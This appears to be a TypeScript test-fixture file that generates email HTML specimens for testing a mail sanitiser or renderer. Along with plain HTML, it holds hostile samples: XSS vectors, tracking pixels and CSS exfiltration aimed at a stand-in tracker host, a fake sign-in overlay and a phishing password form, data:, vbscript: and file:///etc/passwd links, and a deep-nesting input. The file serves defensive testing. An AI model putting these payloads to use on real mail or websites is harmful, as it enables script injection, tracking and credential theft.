import { leaf, multipart } from './build.ts';
import type { Specimen } from './specimen.ts';
import type { Texts } from './texts.ts';

const type = 'text/html; charset=utf-8';
/** A pixel that would come without any request; everything else points at hosts that must never be asked. */
const pixel = 'data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==';

function page(texts: Texts, body: string, head = ''): string {
  return `<!DOCTYPE html><html><head><title>${texts.sentence()}</title>${head}</head><body><p>${texts.sentence()}</p>${body}<p>The end.</p></body></html>\n`;
}

/** HTML that mail programs send, and HTML that wants to run, to phone home or to look like something else. */
export const html: readonly Specimen[] = [
  {
    shape: 'html-only',
    make: (texts) =>
      leaf(
        type,
        page(
          texts,
          '<p>Fish &amp; chips &lt;3</p><ul><li>one</li><li>two</li></ul><a href="https://example.org/a?b=1&amp;c=2">a link</a>',
        ),
        'quoted-printable',
      ),
  },
  {
    shape: 'html-charset-in-meta',
    make: (texts) =>
      leaf(
        'text/html',
        Buffer.from(page(texts, '<p>Übermut</p>', '<meta charset="iso-8859-1">'), 'latin1'),
        '8bit',
      ),
  },
  {
    shape: 'alternative',
    make: (texts) => {
      const text = texts.letter();
      return multipart('alternative', texts.boundary(), [
        leaf('text/plain; charset=utf-8', text),
        leaf(type, `<p>${text}</p>`),
      ]);
    },
  },
  {
    shape: 'alternative-empty-text',
    make: (texts) =>
      multipart('alternative', texts.boundary(), [
        leaf('text/plain', ''),
        leaf(type, page(texts, '<b>Only here</b>')),
      ]),
  },
  {
    shape: 'html-script',
    make: (texts) =>
      leaf(
        type,
        page(
          texts,
          '<script>top.hacked=1</script><img src=x onerror="top.hacked=2"><a href="javascript:top.hacked=3">press</a><a href="JaVa&#9;ScRiPt:alert(1)">press</a><body onload="top.hacked=4"><iframe srcdoc="<script>top.hacked=5</script>"></iframe><object data="https://tracker.example.net/o"></object><embed src="https://tracker.example.net/e">',
        ),
      ),
  },
  {
    shape: 'html-remote-images',
    make: (texts) =>
      leaf(
        type,
        page(
          texts,
          '<img src="https://tracker.example.net/open.gif?id=1" width=1 height=1><img srcset="https://tracker.example.net/2x.png 2x"><picture><source srcset="https://tracker.example.net/p.webp"><img src="//tracker.example.net/q"></picture><video poster="https://tracker.example.net/v.jpg"></video><table background="https://tracker.example.net/t.png"><tr><td>x</td></tr></table><input type=image src="https://tracker.example.net/i">',
        ),
      ),
  },
  {
    shape: 'html-css-exfil',
    make: (texts) =>
      leaf(
        type,
        page(
          texts,
          '<p class=a style="background:url(https://tracker.example.net/inline)">x</p><input value="secret"><div style="position:fixed;inset:0;z-index:99999;background:#fff">Your session ended. Sign in again.</div>',
          '<style>@import url(https://tracker.example.net/c.css);@font-face{font-family:x;src:url(https://tracker.example.net/f)}input[value^=s]{background:url(https://tracker.example.net/s)}p{width:expression(alert(1))}</style><link rel=stylesheet href="https://tracker.example.net/l.css"><link rel=prefetch href="https://tracker.example.net/pre"><base href="https://tracker.example.net/">',
        ),
      ),
  },
  {
    shape: 'html-forms',
    make: (texts) =>
      leaf(
        type,
        page(
          texts,
          '<form action="https://tracker.example.net/phish" method=post><input name=password type=password><button>Sign in</button></form><button form=f formaction="javascript:alert(1)">x</button>',
        ),
      ),
  },
  {
    shape: 'html-svg',
    make: (texts) =>
      leaf(
        type,
        page(
          texts,
          '<svg xmlns="http://www.w3.org/2000/svg" onload="top.hacked=6"><script>top.hacked=7</script><a xlink:href="javascript:alert(1)"><text y=9>x</text></a><image href="https://tracker.example.net/s"/><foreignObject><iframe src="https://tracker.example.net/f"></iframe></foreignObject><animate attributeName=href values="javascript:alert(1)"/></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></math>',
        ),
      ),
  },
  {
    shape: 'html-meta-refresh',
    make: (texts) =>
      leaf(
        type,
        page(
          texts,
          '',
          '<meta http-equiv=refresh content="0;url=https://tracker.example.net/r"><meta http-equiv="Content-Security-Policy" content="default-src *">',
        ),
      ),
  },
  {
    shape: 'html-data-urls',
    make: (texts) =>
      leaf(
        type,
        page(
          texts,
          `<img src="${pixel}"><a href="data:text/html,<script>alert(1)</script>">data</a><iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe><a href="vbscript:msgbox(1)">vb</a><a href="file:///etc/passwd">file</a>`,
        ),
      ),
  },
  {
    shape: 'html-deep-nesting',
    make: (texts) => leaf(type, page(texts, `${'<div>'.repeat(3000)}deep${'</div>'.repeat(3000)}`)),
  },
];
